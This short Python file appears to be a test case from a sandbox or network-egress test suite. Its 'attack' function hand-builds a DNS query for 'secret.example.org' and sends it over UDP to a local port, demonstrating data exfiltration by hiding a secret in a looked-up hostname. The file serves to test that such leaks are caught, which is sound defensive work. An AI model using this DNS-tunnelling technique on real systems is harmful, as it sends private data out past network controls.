# shows: returned
# threat: network
"""Puts a secret into the name that it asks a name server for."""

import socket
import struct


def attack(place):
    question = b"".join(
        bytes([len(part)]) + part for part in (b"secret", b"example", b"org")
    )
    query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + question + b"\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        try:
            sender.sendto(query, ("127.0.0.1", place["udp"]))
        except OSError:
            return "refused"
    return "sent"
